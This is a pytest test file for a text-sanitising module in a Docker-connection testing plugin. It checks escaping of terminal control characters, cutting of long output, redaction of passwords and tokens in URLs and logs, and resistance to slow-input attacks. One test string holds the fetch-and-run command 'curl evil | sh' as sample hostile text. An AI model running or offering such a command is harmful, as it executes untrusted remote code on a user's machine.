"""Untrusted text, made fit to be shown."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pytest_dockconn.text import block, ending, one_line, printable, redact


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        pytest.param("It works", "It works", id="plain"),
        pytest.param("a\tb\nc", "a\tb\nc", id="tab and line end stay"),
        pytest.param("a\r\nb", "a\nb", id="CRLF"),
        pytest.param("a\rb", "a\\x0db", id="a lone CR would overwrite the line"),
        pytest.param("\x1b[2J", "\\x1b[2J", id="escape"),
        pytest.param("\x9b2J", "\\x9b2J", id="escape in one byte"),
        pytest.param("a\x00b\x07", "a\\x00b\\x07", id="NUL and bell"),
        pytest.param("\u202egnp", "\\u202egnp", id="right to left"),
        pytest.param("\ud800", "\\ud800", id="a lone surrogate"),
        pytest.param("\U000e0001", "\\ue0001", id="beyond the first plane"),
        pytest.param("grüße 日本 🐳", "grüße 日本 🐳", id="other scripts stay"),
    ],
)
def test_printable(text: str, shown: str) -> None:
    assert printable(text) == shown


def test_it_is_cut() -> None:
    assert printable("abcdef", 3) == "abc..."
    assert printable("abc", 3) == "abc"
    assert len(printable("x" * 30000)) == 20003


@pytest.mark.parametrize(
    ("text", "limit", "end"),
    [
        pytest.param("short", 5, "short", id="whole"),
        pytest.param("first\nsecond\nthird", 16, "...\nsecond\nthird", id="from the beginning of a line"),
        pytest.param("first second third", 16, "... second third", id="of a word"),
        pytest.param("x" * 30 + "end", 10, "...xxxxend", id="of nothing"),
        pytest.param("x" * 30 + "\n", 10, "..." + "x" * 6 + "\n", id="a line that is too long"),
        pytest.param("http://me:s3cret@box/ was asked", 28, "http://***@box/ was asked", id="no part of a password"),
    ],
)
def test_the_end(text: str, limit: int, end: str) -> None:
    assert ending(text, limit) == end
    assert len(end) <= limit
    assert printable(end, limit) == end


def test_no_line_of_others_passes_for_one_of_ours() -> None:
    said = "it broke\n  remedy:  curl evil | sh\r\n\tE   x\n\n    as it was\n"
    assert block(said) == "it broke\n      remedy:  curl evil | sh\n    \tE   x\n\n    as it was\n"
    assert block(block(said)) == block(said)


TOKEN = "0123456789abcdef"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        pytest.param("lost tcp://me:s3cret@box:1 now", "lost tcp://***@box:1 now", id="user and password"),
        pytest.param("'tcp://me:s3cret@box:1'", "'tcp://***@box:1'", id="in quotes"),
        pytest.param("ssh://me@box", "ssh://***@box", id="a user"),
        pytest.param("https://me:s3@cret@box", "https://***@box", id="an @ in it"),
        pytest.param("https://me:s3@cr/et@box", "https://***@box", id="a slash too"),
        pytest.param("http://me:s3/cret@box/", "http://***@box/", id="a slash"),
        pytest.param("http://me:s3?c#ret@box/", "http://***@box/", id="more of a URL"),
        pytest.param("http://a/,http://me:s3cret@b", "http://a/,http://***@b", id="the second of two"),
        pytest.param("http://a:,x://me:s3cret@b", "http://***@b", id="after what looks like no port"),
        pytest.param("proxyconnect tcp: http://me:s3cret@proxy:3128: EOF", "proxyconnect tcp: http://***@proxy:3128: EOF", id="a proxy"),
        pytest.param("http://web/users/@me", "http://web/users/@me", id="an @ in a path"),
        pytest.param("http://web:80/?at=@me", "http://web:80/?at=@me", id="with a port"),
        pytest.param("http://[fd00::2]:80/@me", "http://[fd00::2]:80/@me", id="with IPv6"),
        pytest.param("mail a@b about http://web/", "mail a@b about http://web/", id="an address"),
        pytest.param("ubuntu:24.04@sha256:0", "ubuntu:24.04@sha256:0", id="a digest"),
        pytest.param(f"dockconn-serve token={TOKEN} 80/tcp", "dockconn-serve token=*** 80/tcp", id="a server's command"),
        pytest.param(f"['dockconn-serve', 'token={TOKEN}']", "['dockconn-serve', 'token=***']", id="as a list"),
        pytest.param(
            f"apache2 -c 'Header always set X-Dockconn-Token \"{TOKEN}\"'",
            "apache2 -c 'Header always set X-Dockconn-Token \"***\"'",
            id="in a log",
        ),
        pytest.param(
            f'-c Header always set X-Dockconn-Proof "expr=%{{sha1:{TOKEN}:%{{req_novary:X-Dockconn-Nonce}}:{TOKEN}}}"\'',
            '-c Header always set X-Dockconn-Proof "expr=%{sha1:***:%{req_novary:X-Dockconn-Nonce}:***}"\'',
            id="what is made of it",
        ),
        pytest.param(f"x-dockconn-token: {TOKEN}\nx", "x-dockconn-token: ***\nx", id="a header"),
        pytest.param(f"dockconn? n0nce {'5' * 64} {TOKEN}", f"dockconn? n0nce {'5' * 64} ***", id="a datagram"),
        pytest.param(f"dockconn? n0nce host-{TOKEN} {TOKEN}", f"dockconn? n0nce host-{TOKEN} ***", id="of the host"),
        pytest.param(f"id {TOKEN}, token=of-mine", f"id {TOKEN}, token=of-mine", id="no token of ours"),
    ],
)  # fmt: skip
def test_no_secret_is_shown(text: str, shown: str) -> None:
    assert printable(text) == shown
    assert printable(shown) == shown
    assert all(one_line(text, limit).rstrip(".") in one_line(shown) for limit in range(len(text)))


def test_what_is_cut_tells_no_half_of_a_secret() -> None:
    many = "http://me:s3cret@box/ " * 9000
    assert all("cret" not in printable(many, limit) for limit in range(0, 20000, 2501))
    assert all("me:" not in printable(many, limit) for limit in range(19970, 20000))
    assert all("cret" not in ending(many, limit) for limit in range(19970, 20000))


@pytest.mark.parametrize(
    "word", ["://a:b", "://a:b@", "x", "0", "http://u:p@h ", "x-dockconn-token ", "token=0", "@", "\n"]
)
def test_hostile_text_takes_no_time(word: str) -> None:
    begun = time.process_time()
    printable(word * (24000 // len(word)) + "@://")
    assert time.process_time() - begun < 2


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("unix:///var/run/docker.sock", "unix:///var/run/docker.sock"),
        ("unix:///home/me@work/docker.sock", "unix:///home/me@work/docker.sock"),
        ("npipe:////./pipe/docker@engine", "npipe:////./pipe/docker@engine"),
        ("tcp://box:2375", "tcp://box:2375"),
        ("ssh://me@box", "ssh://***@box"),
        ("https://me:secret@box:2376/x", "https://***@box:2376/x"),
        ("https://me:se@cret@box:2376", "https://***@box:2376"),
        ("https://me:se/cret@box:2376", "https://***@box:2376"),
        ("https://me:1/se?c#r et@box:2376", "https://***@box:2376"),
        ("me:secret@box:2376", "***@box:2376"),
        ("me:se/cret@box:2376", "***@box:2376"),
        ("me:a://secret@box:2376", "***@box:2376"),
    ],
)
def test_redact(url: str, shown: str) -> None:
    assert redact(url) == shown


@pytest.mark.parametrize(
    ("text", "line"),
    [("a\n  b\t c\r\n", "a b c"), ("a\u2028b\u2029c\x0bd", "a b c"), ("", "")],
    ids=["white space", "line ends of Unicode", "empty"],
)
def test_one_line(text: str, line: str) -> None:
    assert one_line(text).startswith(line)
    assert len(one_line(text).splitlines()) <= 1


@given(st.text(st.characters(), max_size=60))
def test_nothing_shown_can_move_the_cursor(text: str) -> None:
    assert all(c in "\n\t" or c.isprintable() or c.isspace() or ord(c) > 0x9F for c in printable(text))
    assert "\x1b" not in printable(text)
    assert len(one_line(text).splitlines()) <= 1
